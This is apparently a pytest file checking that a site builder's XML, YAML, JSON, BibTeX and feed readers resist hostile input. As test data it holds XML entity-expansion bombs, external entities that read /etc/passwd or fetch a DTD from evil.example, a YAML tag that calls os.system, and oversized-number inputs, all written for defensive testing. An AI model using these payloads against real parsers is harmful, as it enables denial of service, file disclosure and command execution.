"""Inputs that grow when they are read, or lead elsewhere, are refused or read in no time."""

from __future__ import annotations

import json
from contextlib import suppress

import pytest

from site_builder import extraction, readers, text
from site_builder.content import documents
from site_builder.errors import ContentError
from site_builder.readers.html_text import unmarked

ATOM = '<feed xmlns="http://www.w3.org/2005/Atom"><entry><id>http://arxiv.org/abs/2501.00001v1</id>'
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))


@pytest.mark.parametrize(
    "declared",
    [
        f'<!ENTITY l0 "ha">{LAUGHS}',
        '<!ENTITY l11 SYSTEM "file:///etc/passwd">',
        '<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;',
    ],
)
def test_entities_of_a_document_are_never_expanded(declared: str) -> None:
    dump = f"<!DOCTYPE feed [{declared}]>{ATOM}<title>&l11;</title></entry></feed>"
    told = ""
    with suppress(ContentError):
        listing = readers.read("dump.xml", dump.encode())
        told = "".join(record.title for record in listing.records)
    assert "root:" not in told
    assert "haha" not in told


@pytest.mark.parametrize(
    "source",
    [
        "a: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]\n",
        "a: !!python/object/apply:os.system [id]\n",
        "a: !include /etc/passwd\n",
        "[" * 10_000,
        "{a: " * 10_000,
        "a: b\n---\nc: d\n",
    ],
)
def test_yaml_that_could_grow_or_run_is_refused(source: str) -> None:
    with pytest.raises(ContentError):
        documents.parse("site.yaml", source)


@pytest.mark.parametrize(
    "piece", ["A", "word ", "A$", "\\textbf{", "substantially ", "¼", "+", "("]
)
def test_a_megabyte_of_title_is_read(piece: str) -> None:
    """A hang would end in the time limit of CI; what is shown must not have grown."""
    title = (piece * 1_000_000)[:200_000]
    dump = f"Title: {title}\nAuthors: Ada Lovelace\nAbstract: We study bees.\n---\n"
    with suppress(ContentError):
        readers.read("dump.txt", dump.encode(), "key-value")
    extraction.extract(title[:20_000], f"We study bees. {title[:20_000]}")
    assert len(text.title_html(title[:20_000])) < 60 * 20_000


@pytest.mark.parametrize("escaped", [False, True])
def test_combining_marks_do_not_pile_up(escaped: bool) -> None:
    """To normalise so many in a row takes any program minutes, for they are sorted one by one."""
    piled = "\u0335\u0301" * 200_000
    dump = json.dumps(
        [{"title": f"A{piled}B, e\u0301t\u00e9", "abstract": piled}], ensure_ascii=escaped
    )
    (record,) = readers.read("dump.json", dump.encode()).records
    marks = "\u0335\u0301" * 15
    assert (record.title, record.abstract) == (f"A{marks}B, e\u0301t\u00e9", marks)
    extraction.extract(record.title, record.abstract)


LONG = "9" * 5000
FEED = (
    "<rss><channel><item><title>Counting Sheep</title><description>&lt;p&gt;Bees"
    f" &amp;#{LONG}; fly.&lt;/p&gt;</description></item></channel></rss>"
)
NUMBERED = """   [1]Hugging Face

Daily Papers

by [2]AK and the research community

   Jun 29

   [3](BUTTON) 12

### [4]Counting Sheep with Sparse Attention

   We count sheep in {number} aerial pictures. Our model attends to fences first and
   to wool afterwards, which makes it three times as fast as earlier ones
   on two public datasets.

     * 8 authors

   · Sep 16
"""


@pytest.mark.parametrize(
    ("form", "dump"),
    [
        ("daily-text", NUMBERED.format(number=f"[{LONG}]")),
        ("daily-text", NUMBERED.format(number="[3²]")),
        ("bibtex", "@misc{a, title={Counting Sheep}, year=2023, month={²}}"),
        ("bibtex", f"@misc{{a, title={{Counting Sheep}}, year=2023, month={{{LONG}}}}}"),
        ("json", f'[{{"title": "Counting Sheep", "abstract": "Bees.", "cdate": {LONG[:400]}}}]'),
        ("feed", FEED),
    ],
)
def test_numbers_that_are_none_or_too_long_to_count_are_text(form: str, dump: str) -> None:
    """Python counts no more than 4,300 digits, and takes ² for a digit that it can't count."""
    (record,) = readers.read("dump", dump.encode(), form).records
    assert record.title.startswith("Counting Sheep")


def test_references_beyond_all_characters_are_the_replacement_character() -> None:
    page = f"<p>Bees &#{LONG}; fly &#x{LONG}; &#65;.</p>"
    assert unmarked(page).strip() == "Bees \ufffd fly \ufffd A."
